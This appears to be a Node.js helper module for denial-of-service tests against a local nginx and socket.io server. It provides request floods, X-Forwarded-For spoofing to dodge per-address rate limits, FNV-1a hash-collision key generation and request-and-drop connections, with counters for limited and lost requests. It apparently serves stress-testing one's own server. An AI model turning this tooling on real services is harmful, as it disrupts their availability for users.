// attacker.mjs: what attacks share: requests that are counted, dropped or sent without pause, until the time is over.
//
// The words of the command are attack.mjs's.
import http from 'node:http';
import net from 'node:net';

export const [port, ms, tlsPort] = [3, 4, 6].map((i) => Number(process.argv[i]));
/** One stranger's address, for nginx to believe; none: it is the machine's own. */
const from = process.argv[5] ? { 'X-Forwarded-For': process.argv[5] } : {};
export const over = performance.now() + ms;
export const going = () => performance.now() < over;
export const sleep = (n) => new Promise((resolve) => setTimeout(resolve, n));
/** How much it got done: answers, those that a limit refused, all other refusals, and connections that were lost. */
export const told = { done: 0, limited: 0, refused: 0, lost: 0 };
const agent = new http.Agent({ keepAlive: true, maxSockets: 12_000 });
export const IO = '/socket.io/?EIO=4&transport=polling';
export const BROWSER = { 'User-Agent': 'Mozilla/5.0', ...from };

/** One request; resolves to {status, text}, or status 0 when the connection was lost. */
export function ask(method, path, body, headers = {}) {
	return new Promise((resolve) => {
		const req = http.request({ port, host: '127.0.0.1', method, path, agent, headers: { ...BROWSER, ...headers } }, (res) => {
			let text = '';
			res.setEncoding('latin1').on('data', (chunk) => {
				text += chunk;
			}).on('end', () => resolve({ status: res.statusCode, text })).on('error', () => resolve({ status: 0, text: '' }));
		});
		req.on('error', () => resolve({ status: 0, text: '' }));
		setTimeout(() => req.destroy(), Math.max(0, over - performance.now()) + 2000).unref();
		req.end(body);
	});
}

export const count = ({ status }) => {
	told[status === 0 ? 'lost' : status < 400 ? 'done' : status === 429 ? 'limited' : 'refused']++;
	return status;
};
export const all = (n, fn) => Promise.all(Array.from({ length: n }, (_, i) => fn(i)));

/** A new session in the namespace where the crowd is; undefined when there can be none. */
export async function session(connect = '40/b1,') {
	const { status, text } = await ask('GET', IO);
	if (status !== 200)
		return undefined;
	const path = `${IO}&sid=${JSON.parse(text.slice(1)).sid}`;
	if (connect)
		await ask('POST', path, connect);
	return path;
}

/** As many copies as make about so many bytes. */
export const packets = (one, bytes) => Array(Math.floor(bytes / (one.length + 1))).fill(one).join('\x1e');

/** n clients that POST such bodies without pause. */
export const flood = (n, body) => all(n, async () => {
	while (going()) {
		const path = await session();
		while (path !== undefined && going() && count(await ask('POST', path, body)) === 200)
			;
		await sleep(10);
	}
});

/** FNV-1a with 64 bits, folded to 32, by halves: the prime is 2^40 + 0x1b3. */
function fnv(text) {
	let low = 0x84222325, high = 0xcbf29ce4;
	for (let i = 0; i < text.length; i++) {
		low = (low ^ text.charCodeAt(i)) >>> 0;
		const product = low * 0x1b3;
		high = (high * 0x1b3 + Math.floor(product / 2 ** 32) + low * 256) % 2 ** 32;
		low = product % 2 ** 32;
	}
	return (low ^ high) >>> 0;
}

/** Names whose hashes end with the same 12 bits. */
export function collide(n) {
	const found = [];
	for (let i = 0; found.length < n; i++)
		if ((fnv(i.toString(36)) & 0xfff) === 0)
			found.push(i.toString(36));
	return found;
}

/** Headers as they are sent. */
export const lines = (headers = {}) => Object.entries({ ...from, ...headers }).map((pair) => `${pair.join(': ')}\r\n`).join('');

/** A request that is sent and dropped a moment later. */
export function drop(path, headers) {
	return new Promise((resolve) => {
		const conn = net.connect(port, '127.0.0.1');
		conn.on('error', resolve).on('close', resolve);
		conn.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n${lines(headers)}\r\n`, () => setTimeout(() => conn.destroy(), 5));
		told.done++;
	});
}

export const dropping = (n, path, headers = () => ({})) => all(n, async (i) => {
	while (going()) {
		await drop(typeof path === 'function' ? path(i) : path, headers());
		await sleep(20);
	}
});

export const letters = (i) => String.fromCharCode(97 + i % 26) + String.fromCharCode(97 + Math.floor(i / 26) % 26);

/** n connections that ask without pause. */
export const loop = (n, fn) => all(n, async (i) => {
	while (going())
		count(await fn(i));
});
